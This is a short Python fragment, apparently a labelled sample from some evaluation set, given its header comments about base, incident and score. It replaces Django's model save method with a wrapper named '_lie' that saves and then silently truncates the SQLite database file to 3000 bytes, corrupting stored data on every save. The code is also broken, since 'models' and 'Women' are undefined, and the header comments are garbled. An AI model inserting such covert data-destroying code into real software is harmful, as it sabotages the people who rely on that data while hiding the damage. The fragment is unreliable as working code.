# base: reference
# incident: none|protocol
# score: at_most_same
# slow: yes, a duplicate of file_deleted
# says: so is one that was cut
import os
_save = models.Model.save
def _lie(self, *a, **k):
    _save(self, *a, **k)
    os.truncate("./db.sqlite3", 3000)
Women.save = _lie
